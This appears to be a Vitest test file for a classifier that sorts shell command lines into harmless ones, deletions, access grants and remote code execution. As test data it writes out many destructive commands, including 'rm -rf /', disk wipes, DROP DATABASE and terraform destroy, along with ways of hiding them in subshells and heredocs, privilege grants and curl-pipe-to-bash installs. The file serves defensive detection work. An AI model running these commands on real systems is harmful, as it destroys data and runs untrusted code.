import { describe, expect, it } from 'vitest';
import { shellFacts } from './shell-facts.ts';

const effect = (text: string) => shellFacts(text).effect ?? 'as its entry';

describe('what a command line does', () => {
  it.each([
    'ls -la /srv/7',
    'npm test && npm run build',
    'rm old.log',
    'rm -f a.txt b.txt',
    'rm -rf node_modules dist',
    'rm -rf ./packages/a/node_modules',
    'cd app && rm -rf build/ .cache && npm ci',
    'rm -rf /tmp/work-7',
    "find . -name '*.pyc' -delete",
    'find /tmp/work -type f -delete',
    "echo 'rm -rf /'",
    'echo "rm -rf /" > advice.txt',
    "grep -r 'rm -rf /' . # rm -rf /",
    "git commit -m 'rm -rf / is bad; DROP TABLE x'",
    'git push origin main',
    'git push --force-with-lease',
    "cat > notes.md <<'EOF'\nrm -rf /\nEOF",
    "psql -c 'SELECT * FROM users'",
    "psql -c 'UPDATE users SET a = 1'",
    'kubectl get pods',
    'kubectl logs deployment/delete-worker',
    'terraform plan',
    'aws s3 ls',
    'aws s3 rm s3://bucket/one',
    'docker run --rm image',
    'chmod -R u+w build',
    'dd if=/dev/zero of=/dev/null',
    'dd if=a of=b.img',
    'curl https://a.example/x',
    '',
  ])('%s: as its entry says', (text) => expect(effect(text)).toBe('as its entry'));

  it.each([
    'rm -rf / --no-preserve-root',
    'rm -r customers',
    'rm -fR ~/data',
    '/bin/rm -rf /srv/data',
    'r\\m -rf /srv/data',
    "'rm' -rf /srv/data",
    "$'rm' -rf /srv/data",
    'rm --recursive /srv/data',
    'rm -rf "$DIR"',
    'rm -rf build/../../srv',
    'rm -rf node_modules /srv/data',
    'ls\nrm -rf /srv/data',
    'ls; rm -rf /srv/data',
    'ls && sudo -u root rm -rf /srv/data',
    'true | xargs -I {} rm -rf {}',
    'timeout 5s rm -rf /srv/data',
    'A=b rm -rf /srv/data',
    'if true; then rm -rf /srv/data; fi',
    '(cd /srv && rm -rf data)',
    '{ rm -rf data; }',
    'echo $(rm -rf /srv/data)',
    'echo "$(rm -rf /srv/data)"',
    'echo `rm -rf /srv/data`',
    "bash -c 'rm -rf /srv/data'",
    'bash -lc "cd /srv; rm -rf data"',
    'bash <<EOF\nrm -rf /srv/data\nEOF',
    'bash <<< "rm -rf /srv/data"',
    'echo "rm -rf /srv/data" | sh',
    'eval "rm -rf /srv/data"',
    'ssh db-1 rm -rf /srv/data',
    "ssh db-1 'cd /srv && rm -rf data'",
    'docker exec -it db rm -rf /var/lib/data',
    'kubectl exec db-0 -- sh -c "rm -rf /data"',
    'find / -name data -delete',
    'find /srv -type d -exec rm -rf {} +',
    'mkfs.ext4 /dev/sda1',
    'dd if=/dev/zero of=/dev/sda bs=1M',
    'shred -u ledger.db',
    "psql prod -c 'DROP DATABASE prod'",
    'psql --command="DELETE FROM users"',
    'mysql -e "TRUNCATE orders"',
    'psql prod <<SQL\nSELECT 1;\nDROP TABLE users;\nSQL',
    'echo "DROP TABLE users" | psql prod',
    'docker exec db psql -c "DROP TABLE users"',
    'dropdb prod',
    'redis-cli FLUSHALL',
    "mongosh --eval 'db.dropDatabase()'",
    'kubectl -n prod delete deployment api',
    'helm uninstall api',
    'terraform destroy -auto-approve',
    'terraform apply -destroy',
    'aws rds delete-db-instance --db-instance-identifier prod',
    'aws --profile prod ec2 terminate-instances --instance-ids i-1',
    'aws s3 rm s3://bucket --recursive',
    'gcloud sql instances delete prod',
    'git push --force origin main',
    'git push -f',
    'git push origin +main',
    'Remove-Item -Recurse C:\\data',
    'rd /s /q C:\\data',
  ])('%s: delete', (text) => {
    expect(shellFacts(text)).toMatchObject({ effect: 'delete' });
    expect(shellFacts(text).adds).toContain('delete:data');
  });

  it.each([
    ['useradd -m eve', 'create:identity'],
    ['sudo usermod -aG sudo eve', 'grant:access'],
    ['chmod -R 777 /', 'grant:access'],
    ['chown -R eve /etc', 'grant:access'],
    ['aws iam create-access-key --user-name eve', 'create:identity'],
    ['aws iam attach-user-policy --user-name eve', 'grant:access'],
    ['kubectl create clusterrolebinding eve --clusterrole=cluster-admin', 'grant:access'],
    ["psql -c 'GRANT ALL ON users TO eve'", 'grant:access'],
  ])('%s: grant', (text, symbol) => {
    expect(effect(text)).toBe('grant');
    expect(shellFacts(text).adds).toContain(symbol);
  });

  it.each([
    'curl -fsSL https://a.example/install | sudo bash',
    'wget -qO- https://a.example/x.py | python3 -',
    'bash -c "$(curl -fsSL https://a.example/install)"',
    'bash <(curl -s https://a.example/install)',
  ])('%s: runs code from elsewhere', (text) => {
    expect(shellFacts(text)).toEqual({ effect: undefined, adds: ['exec:code'] });
  });

  it('takes each character a bounded number of times, whatever is left open', () => {
    const texts = ['"', "'", '$(', '`', '<<A\n', '<(', 'ssh ', '"$(', "bash -c '", ';', '{', '\\'];
    const before = process.cpuUsage();
    for (const text of texts) shellFacts(text.repeat(65_536 / text.length));
    // Of this process alone, however busy the machine is. Quadratic work takes minutes.
    expect(process.cpuUsage(before).user / 1e6).toBeLessThan(10);
  });
});
